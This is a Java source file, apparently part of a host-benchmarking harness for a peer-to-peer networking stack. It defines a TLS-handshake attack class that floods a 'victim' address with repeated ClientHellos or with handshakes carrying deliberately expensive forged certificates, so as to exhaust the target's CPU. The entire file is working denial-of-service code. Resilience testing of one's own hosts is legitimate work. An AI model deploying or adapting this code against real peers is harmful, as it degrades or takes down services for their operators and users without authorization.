package io.surgemesh.hostbench;

import io.surgemesh.multiformats.Multiaddr.TcpAddress;
import java.io.IOException;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.security.SecureRandom;
import org.bouncycastle.tls.TlsClientProtocol;
import org.bouncycastle.tls.crypto.impl.bc.BcTlsCrypto;

/** Attacks by who proves no identity and lets the other side reckon, if that speaks TLS. */
final class TlsAttack implements Attack {
  /** How far each handshake goes. */
  enum Kind {
    /** Up to the first message, which costs an answer with a signature. */
    TLS_HELLOS,
    /** Up to a certificate that takes long to look at and proves nothing. */
    HEAVY_CERTIFICATES
  }

  private static final int PATIENCE_MILLIS = 500;
  private static final byte[] PROPOSAL =
      "\23/multistream/1.0.0\n\13/tls/1.0.0\n".getBytes(StandardCharsets.US_ASCII);

  private final Kind kind;
  private final BcTlsCrypto crypto;
  private final byte[] certificate;
  private final byte[] hello;
  private final HeldSockets held;

  TlsAttack(Kind kind, TcpAddress victim) {
    this.kind = kind;
    this.held = new HeldSockets(victim);
    SecureRandom random = new SecureRandom();
    this.crypto = new BcTlsCrypto(random);
    this.certificate = HeavyCertificate.create(random);
    this.hello = hello(new ForgingClient(crypto, certificate));
  }

  /** The same each time: nobody but its sender can tell. */
  private static byte[] hello(ForgingClient client) {
    TlsClientProtocol protocol = new TlsClientProtocol();
    try {
      protocol.connect(client);
    } catch (IOException impossible) {
      throw new IllegalStateException(impossible);
    }
    byte[] hello = new byte[protocol.getAvailableOutputBytes()];
    protocol.readOutput(hello, 0, hello.length);
    return hello;
  }

  @Override
  public void step() {
    try {
      Socket socket = held.open();
      socket.setSoTimeout(PATIENCE_MILLIS);
      socket.getOutputStream().write(PROPOSAL);
      if (kind == Kind.TLS_HELLOS) {
        socket.getOutputStream().write(hello);
      } else {
        shakeHands(socket);
      }
    } catch (IOException refused) {
      // As it should be.
    }
    if (kind == Kind.HEAVY_CERTIFICATES) {
      held.clear();
    } else {
      held.trim();
    }
  }

  private void shakeHands(Socket socket) throws IOException {
    if (socket.getInputStream().readNBytes(PROPOSAL.length).length < PROPOSAL.length) {
      return;
    }
    TlsClientProtocol protocol =
        new TlsClientProtocol(socket.getInputStream(), socket.getOutputStream());
    protocol.connect(new ForgingClient(crypto, certificate));
    // Leaves when it has been looked at, and no sooner: who has gone is spared.
    protocol.getInputStream().read();
  }

  @Override
  public void end() {
    held.clear();
  }
}
